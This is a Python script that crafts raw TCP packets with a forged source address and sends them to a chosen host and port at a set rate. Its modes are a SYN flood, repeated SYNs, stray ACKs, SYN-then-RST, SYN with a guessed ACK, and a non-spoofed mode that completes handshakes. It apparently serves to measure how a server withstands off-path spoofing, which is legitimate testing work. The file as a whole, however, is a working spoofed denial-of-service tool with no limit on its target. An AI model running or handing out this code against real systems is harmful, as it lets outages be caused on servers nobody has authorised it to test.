#!/usr/bin/python3
"""Sends packets to HOST:PORT whose sender is SOURCE, RATE a second, COUNT in all: what a stranger can who may forge
senders and sees no answer. KIND: syn; again (each SYN twice); ack (no SYN before); rst (behind a SYN); guess (behind a
SYN an ACK with a number out of the air); whole (no forgery: all SYNs first, then each ACK that is right).
Usage: forge.py HOST PORT SOURCE RATE COUNT KIND [all-ports]"""

import ipaddress
import random
import socket
import struct
import sys
import time

HOST, SOURCE, KIND = sys.argv[1], sys.argv[3], sys.argv[6]
PORT, RATE, COUNT = int(sys.argv[2]), int(sys.argv[4]), int(sys.argv[5])
RST, SYN, ACK = 4, 2, 16
SENDER, RECEIVER = ipaddress.ip_address(SOURCE).packed, ipaddress.ip_address(HOST).packed
IS_SIX = len(SENDER) == 16
# Below those that a kernel gives its own connections, of which one that comes upon a half-open one waits; or all.
LOWEST, BEHIND = 1024, 65536 if "all-ports" in sys.argv[7:] else 32768
FIRST = random.randrange(BEHIND - LOWEST)
PORTS = [LOWEST + (FIRST + number) % (BEHIND - LOWEST) for number in range(COUNT)]


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff


def packet(port, sequence, acknowledged, flags):
    def segment(check):
        return struct.pack("!HHLLBBHHH", port, PORT, sequence, acknowledged, 5 << 4, flags, 64240, check, 0)

    size = len(segment(0))
    pseudo = SENDER + RECEIVER + (struct.pack("!LL", size, 6) if IS_SIX else struct.pack("!HH", 6, size))
    tcp = segment(checksum(pseudo + segment(0)))
    if IS_SIX:
        return struct.pack("!LHBB", 6 << 28, size, socket.IPPROTO_TCP, 64) + SENDER + RECEIVER + tcp
    head = struct.pack("!BBHHHBBH", 0x45, 0, 20 + size, random.getrandbits(16), 0, 64, socket.IPPROTO_TCP, 0)
    return head + SENDER + RECEIVER + tcp


def packets(port):
    sequence = random.getrandbits(31)
    syn = packet(port, sequence, 0, SYN)
    return {"syn": [syn], "again": [syn, syn], "ack": [packet(port, sequence, random.getrandbits(32), ACK)],
            "rst": [syn, packet(port, sequence + 1, 0, RST)],
            "guess": [syn, packet(port, sequence + 1, random.getrandbits(32), ACK)], "whole": [syn]}[KIND]


def complete(wire, answers):
    """The handshakes that wait for their last packet, as long as the server answers."""
    answers.settimeout(2)
    waiting = set(PORTS)
    while waiting:
        try:
            answer = answers.recv(4096)[0 if IS_SIX else 20:]
        except TimeoutError:
            return
        _, port, sequence, acknowledged, _, flags = struct.unpack("!HHLLBB", answer[:14])
        if flags == SYN | ACK and port in waiting:
            waiting.remove(port)
            wire.sendto(packet(port, acknowledged, (sequence + 1) % 2**32, ACK), (HOST, 0))


def main():
    family = socket.AF_INET6 if IS_SIX else socket.AF_INET
    wire = socket.socket(family, socket.SOCK_RAW, socket.IPPROTO_RAW)
    wire.setsockopt(socket.SOL_SOCKET, socket.SO_MARK, 1)  # tells them from what the kernel of the real address sends
    answers = socket.socket(family, socket.SOCK_RAW, socket.IPPROTO_TCP)
    answers.bind((SOURCE, 0))
    began = time.monotonic()
    for number, port in enumerate(PORTS):
        for one in packets(port):
            wire.sendto(one, (HOST, 0))
        time.sleep(max(0.0, began + (number + 1) / RATE - time.monotonic()))
    if KIND == "whole":
        complete(wire, answers)


main()
